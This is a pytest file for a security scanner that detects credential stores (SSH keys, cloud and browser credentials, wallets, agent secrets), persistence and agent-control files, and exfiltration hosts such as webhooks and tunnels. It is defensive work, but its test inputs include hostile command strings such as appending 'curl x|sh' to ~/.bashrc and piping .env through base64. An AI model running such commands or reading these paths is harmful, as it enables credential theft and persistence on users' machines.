"""The scanner's knowledge as data: sources, sinks, secret names and local hosts."""

from __future__ import annotations

import pytest

from tank.scanner import knowledge


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("~/.ssh/id_ed25519", "ssh-key"),
        ("/home/dev/.ssh/work_deploy_key", "ssh-key"),
        ("~/.ssh", "ssh-key"),
        ("%USERPROFILE%\\.aws\\credentials", "cloud-credentials"),
        ("$HOME/.config/gcloud/application_default_credentials.json", "cloud-credentials"),
        ("~/.kube/config", "container-credentials"),
        ("${HOME}/.docker/config.json", "container-credentials"),
        ("~/.git-credentials", "git-credentials"),
        ("~/.config/gh/hosts.yml", "git-credentials"),
        ("~/.npmrc", "package-credentials"),
        ("C:\\Users\\a\\_netrc", "package-credentials"),
        ("~/Library/Application Support/Google/Chrome/Default/Login Data", "browser-store"),
        (
            "$env:LOCALAPPDATA\\BraveSoftware\\Brave-Browser\\User Data\\Local State",
            "browser-store",
        ),
        ("~/.mozilla/firefox/abc.default/key4.db", "browser-store"),
        ("~/.config/Exodus/exodus.wallet", "crypto-wallet"),
        ("Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn", "crypto-wallet"),
        ("~/Library/Keychains/login.keychain-db", "keychain"),
        ("/etc/shadow", "keychain"),
        ("~/.zsh_history", "shell-history"),
        (
            "%APPDATA%\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt",
            "shell-history",
        ),
        (".env.production", "env-file"),
        ("config/.env", "env-file"),
        ("~/.claude.json", "agent-secrets"),
        ("~/.codex/auth.json", "agent-secrets"),
        ("~/.clawdbot/.env", "env-file"),
        ("~/.clawdbot/config.json", "agent-secrets"),
    ],
)
def test_sensitive_sources_are_recognised_on_every_os(path: str, kind: str) -> None:
    found = knowledge.sensitive_source(path)
    assert found is not None, path
    assert found.kind == kind


@pytest.mark.parametrize(
    "path",
    [
        "README.md",
        "./docs/cookies-policy.md",
        ".env.example",
        ".env.sample",
        "~/.ssh_tips.txt",
        "~/.ssh/id_ed25519.pub",
        "~/.ssh/*.pub",
        "~/.ssh/config",
        "~/.ssh/known_hosts",
        "~/.ssh/authorized_keys",
        "src/environment.py",
        "https://example.com/login",
        "~/.kube/cache/discovery",
    ],
)
def test_ordinary_paths_are_not_sources(path: str) -> None:
    # the public files of ~/.ssh hold no secret (the folder itself and its keys do)
    found = knowledge.sensitive_source(path)
    assert found is None, (path, found)


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("~/.bashrc", "shell-startup"),
        ("~/.zshrc", "shell-startup"),
        ("~/Documents/PowerShell/Microsoft.PowerShell_profile.ps1", "shell-startup"),
        ("~/Library/LaunchAgents/com.apple.update.plist", "scheduled-job"),
        ("~/.config/systemd/user/sync.service", "scheduled-job"),
        ("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "scheduled-job"),
        ("~/.ssh/authorized_keys", "ssh-access"),
        (".git/hooks/pre-commit", "git-hooks"),
        (".claude/settings.json", "agent-control"),
        ("CLAUDE.md", "agent-control"),
        ("~/.cursor/mcp.json", "agent-control"),
        (".mcp.json", "agent-control"),
        (".cursor/rules/style.mdc", "agent-control"),
    ],
)
def test_persistence_and_agent_control_targets(path: str, kind: str) -> None:
    found = knowledge.control_target(path)
    assert found is not None, path
    assert found.kind == kind


@pytest.mark.parametrize("path", ["./out/report.md", "docs/CLAUDE-notes.txt", "~/.cache/x.log"])
def test_ordinary_writes_are_not_targets(path: str) -> None:
    assert knowledge.control_target(path) is None


def test_collectors_need_their_path_where_the_host_is_also_a_website() -> None:
    assert knowledge.collector_host("discord.com", "/api/webhooks/1/x") == "Discord webhook"
    assert knowledge.collector_host("discord.com", "/invite/abc") is None
    assert knowledge.collector_host("abc.ngrok-free.app") == "tunnel to someone's machine"
    assert knowledge.collector_host("pastebin.com") == "paste site"
    assert knowledge.collector_host("api.github.com", "/repos/a/b") is None
    assert knowledge.collector_host("api.example-vendor.com") is None


@pytest.mark.parametrize(
    ("name", "secret"),
    [
        ("GITHUB_TOKEN", True),
        ("OPENAI_API_KEY", True),
        ("SLACK_WEBHOOK_URL", True),
        ("DATABASE_URL", True),
        ("AWS_SECRET_ACCESS_KEY", True),
        ("KUBE_TOKEN_PATH", False),
        ("GOOGLE_APPLICATION_CREDENTIALS_FILE", False),
        ("AWS_REGION", False),
        ("PWD", False),
        ("KEYBOARD_LAYOUT", False),
    ],
)
def test_secret_env_names(name: str, secret: bool) -> None:
    assert knowledge.secret_env(name) is secret


@pytest.mark.parametrize(
    ("host", "local"),
    [
        ("localhost", True),
        ("api.localhost", True),
        ("127.0.0.1", True),
        ("127.8.0.3", True),
        ("[::1]", True),
        ("0.0.0.0", True),
        ("example.com", False),
        ("collector.example.net", False),
        ("svc.test", False),
        ("x.invalid", False),
        ("10.0.0.5", False),
        ("192.168.1.1", False),
        ("203.0.113.7", False),
    ],
)
def test_only_loopback_is_local(host: str, local: bool) -> None:
    assert knowledge.is_local_host(host) is local


def test_matching_is_bounded_on_huge_input() -> None:
    assert knowledge.sensitive_source("a/" * 1_000_000) is None
    assert knowledge.control_target("x" * 1_000_000) is None


def test_a_path_ends_at_a_shell_operator_inside_a_command_line() -> None:
    found = knowledge.control_target("echo 'curl x|sh' >> ~/.bashrc; echo done")
    assert found is not None and found.kind == "shell-startup"
    assert knowledge.control_target("cp a ~/.bashrc.bak") is None
    source = knowledge.sensitive_source("tar czf - .env | base64")
    assert source is not None and source.kind == "env-file"


def test_task_folders_are_only_windows_scheduled_tasks() -> None:
    assert knowledge.control_target("./agent/tasks/run.json") is None
    found = knowledge.control_target("C:\\Windows\\System32\\Tasks\\Updater")
    assert found is not None and found.kind == "scheduled-job"
    hooks = knowledge.control_target("~/.config/git/hooks/pre-push")
    assert hooks is not None and hooks.kind == "git-hooks"


def test_sensitive_lookups_are_fast_on_ordinary_paths() -> None:
    """The literal prefilter skips every pattern whose words are absent (no timing here:
    the count of regex searches that ran is what must stay at zero)."""
    path = "/usr/share/lib/some/long/path/that/is/not/sensitive/at/all/" * 4
    folded = path.casefold()
    ran = [
        p
        for kind in knowledge.sources()
        for p, needles in kind.pattern.parts
        if needles is None or any(n in folded for n in needles)
    ]
    assert ran == []
